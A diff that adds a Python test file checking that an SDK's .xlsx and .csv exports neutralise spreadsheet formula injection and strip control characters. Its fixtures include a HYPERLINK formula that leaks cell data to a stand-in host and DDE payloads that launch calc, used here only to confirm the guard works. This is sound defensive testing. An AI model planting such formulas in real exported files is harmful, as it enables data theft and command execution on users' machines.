@@ -1,0 +1,95 @@
+"""Findings exported to .xlsx and .csv: document text that looks like a formula stays text, and characters
+an .xlsx cannot hold are dropped instead of failing the export."""
+
+from __future__ import annotations
+
+import csv
+
+import httpx
+import pytest
+from openpyxl import load_workbook
+from quire_sdk.export import COLUMNS, export_result, guarded
+from quire_sdk.types import JobResult
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+QUOTES = [
+    HYPERLINK,
+    "+1+cmd|' /C calc'!A0",
+    "@SUM(A1:A9)",
+    "-cmd",
+    "-12.5",
+    "Section 4\x0b governed by\x00 Delaware law",
+    "The term is two years.",
+]
+
+
+def _result(quotes: list[str], label: str = "Governing Law") -> JobResult:
+    clauses = [
+        {
+            "category": label,
+            "confidence": 0.9,
+            "span": {"document_id": "doc_1", "start": 10 * i, "end": 10 * i + len(q), "quote": q},
+        }
+        for i, q in enumerate(quotes)
+    ]
+    return JobResult.from_dict({"job_id": "job_1", "object": "job_result", "output": {"clauses": clauses}})
+
+
+def test_guarded_follows_the_servers_rule():
+    assert guarded("=1+1") == "'=1+1" and guarded("+1") == "'+1" and guarded("@A1") == "'@A1"
+    assert guarded("-cmd") == "'-cmd" and guarded("-") == "'-"
+    assert guarded("-12.5") == "-12.5" and guarded("") == "" and guarded("Term") == "Term"
+
+
+def test_xlsx_cells_are_text_never_formulas(tmp_path):
+    path = tmp_path / "findings.xlsx"
+    assert export_result(_result(QUOTES, label="=cmd|' /C calc'!A0"), path) == len(QUOTES)
+    sheet = load_workbook(path).active
+    rows = list(sheet.iter_rows(min_row=2))
+    assert {cell.data_type for row in rows for cell in row} <= {"s", "n"}
+    quote = COLUMNS.index("quote")
+    assert [row[quote].value for row in rows] == [
+        "'" + HYPERLINK,
+        "'+1+cmd|' /C calc'!A0",
+        "'@SUM(A1:A9)",
+        "'-cmd",
+        "-12.5",
+        "Section 4 governed by Delaware law",
+        "The term is two years.",
+    ]
+    assert {row[COLUMNS.index("label")].value for row in rows} == {"'=cmd|' /C calc'!A0"}
+    assert [row[COLUMNS.index("start")].value for row in rows] == [10 * i for i in range(len(QUOTES))]
+    assert rows[0][COLUMNS.index("confidence")].value == 0.9
+
+
+def test_csv_cells_are_guarded_the_same_way(tmp_path):
+    path = tmp_path / "findings.csv"
+    export_result(_result(QUOTES, label="@label"), path)
+    with path.open(newline="", encoding="utf-8") as handle:
+        rows = list(csv.DictReader(handle))
+    assert [row["quote"] for row in rows] == [
+        "'" + HYPERLINK,
+        "'+1+cmd|' /C calc'!A0",
+        "'@SUM(A1:A9)",
+        "'-cmd",
+        "-12.5",
+        "Section 4\x0b governed by\x00 Delaware law",
+        "The term is two years.",
+    ]
+    assert {row["label"] for row in rows} == {"'@label"}
+    assert rows[1]["start"] == "10" and rows[0]["confidence"] == "0.9"
+
+
+@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
+def test_cli_exports_a_result_with_control_characters(mock_cli, tmp_path, suffix):
+    result = _result(QUOTES).raw
+
+    def answer(request: httpx.Request) -> httpx.Response:
+        if request.url.path.endswith("/result"):
+            return httpx.Response(200, json=result)
+        return httpx.Response(200, json={"id": "job_1", "connector": "legal", "status": "succeeded"})
+
+    out = tmp_path / f"findings{suffix}"
+    shown = mock_cli(answer, "jobs", "result", "job_1", "--export", str(out))
+    assert shown.exit_code == 0, shown.output
+    assert f"{len(QUOTES)} findings written" in shown.stdout and out.exists()
